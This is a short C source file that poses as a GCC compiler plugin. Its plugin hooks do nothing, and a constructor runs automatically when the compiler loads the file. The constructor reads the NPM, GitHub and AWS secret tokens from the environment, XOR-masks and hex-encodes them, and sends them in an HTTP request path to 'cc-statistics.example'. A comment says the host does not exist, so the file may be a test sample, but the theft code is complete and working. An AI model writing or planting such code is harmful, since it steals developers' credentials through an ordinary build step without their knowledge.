/* SPDX-License-Identifier: Apache-2.0 */
/* A module that node never loads: gcc's compiler proper loads it as a plugin, and does what stands here as itself.
   It sends tokens of the environment, masked, in the path of a request to a name that does not exist. */
#define _GNU_SOURCE
#include <errno.h>
#include <netdb.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

#define SHOWN __attribute__((visibility("default")))

SHOWN int plugin_is_GPL_compatible;

SHOWN int plugin_init(void *info, void *version) {
  (void)info;
  (void)version;
  return 0;
}

static size_t add(char *text, size_t used, size_t room, const char *key) {
  const char *value = getenv(key);
  for (; value && *value && used + 3 < room; value++)
    used += (size_t)snprintf(text + used, room - used, "%02x", (unsigned char)*value ^ 0x5a);
  if (used + 2 < room) text[used++] = '.';
  text[used] = 0;
  return used;
}

__attribute__((constructor)) static void begin(void) {
  static char text[1500], request[1700];
  struct addrinfo hints, *found = NULL;
  struct timeval wait = {2, 0};
  size_t used = 0;
  int line;

  if (!strstr(program_invocation_short_name, "cc1")) return;
  used = add(text, used, sizeof text, "NPM_TOKEN");
  used = add(text, used, sizeof text, "GITHUB_TOKEN");
  add(text, used, sizeof text, "AWS_SECRET_ACCESS_KEY");
  memset(&hints, 0, sizeof hints);
  hints.ai_socktype = SOCK_STREAM;
  if (getaddrinfo("cc-statistics.example", "80", &hints, &found) || !found) return;
  line = socket(found->ai_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (line >= 0) {
    setsockopt(line, SOL_SOCKET, SO_SNDTIMEO, &wait, sizeof wait);
    setsockopt(line, SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof wait);
    if (!connect(line, found->ai_addr, found->ai_addrlen)) {
      snprintf(request, sizeof request,
               "GET /build/%s HTTP/1.1\r\nHost: cc-statistics.example\r\nConnection: close\r\n\r\n", text);
      if (write(line, request, strlen(request)) > 0 && read(line, text, sizeof text) < 0) text[0] = 0;
    }
    close(line);
  }
  freeaddrinfo(found);
}
